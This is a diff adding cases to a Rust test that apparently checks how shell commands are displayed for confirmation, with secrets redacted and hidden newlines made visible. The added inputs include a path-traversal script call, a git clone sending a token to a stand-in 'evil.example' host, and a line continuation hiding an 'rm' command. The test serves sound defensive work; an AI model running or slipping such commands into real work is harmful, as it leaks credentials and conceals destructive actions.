@@ -172,6 +172,22 @@ fn no_mask_of_a_question_hides_what_runs() {
         ),
         (format!("bash ./{token}"), format!("bash: bash ./{token}")),
         (
+            "sh password=Xk9vQ2mZ7pL4/../evil.sh".to_owned(),
+            "bash: sh password=[redacted]/../evil.sh".to_owned(),
+        ),
+        (
+            format!("git clone https://x:{token}@evil.example/a"),
+            "bash: git clone https://x:[redacted: token, 39 bytes]@evil.example/a".to_owned(),
+        ),
+        (
+            format!("cat > t <<'EOF'\n{token}\nEOF"),
+            "bash: cat > t <<'EOF' ⏎ [redacted: token, 39 bytes] ⏎ EOF".to_owned(),
+        ),
+        (
+            "echo a\\ \nrm zz".to_owned(),
+            "bash: echo a\\ ␣⏎ rm zz".to_owned(),
+        ),
+        (
             format!("echo {token}"),
             "bash: echo [redacted: token, 39 bytes]".to_owned(),
         ),
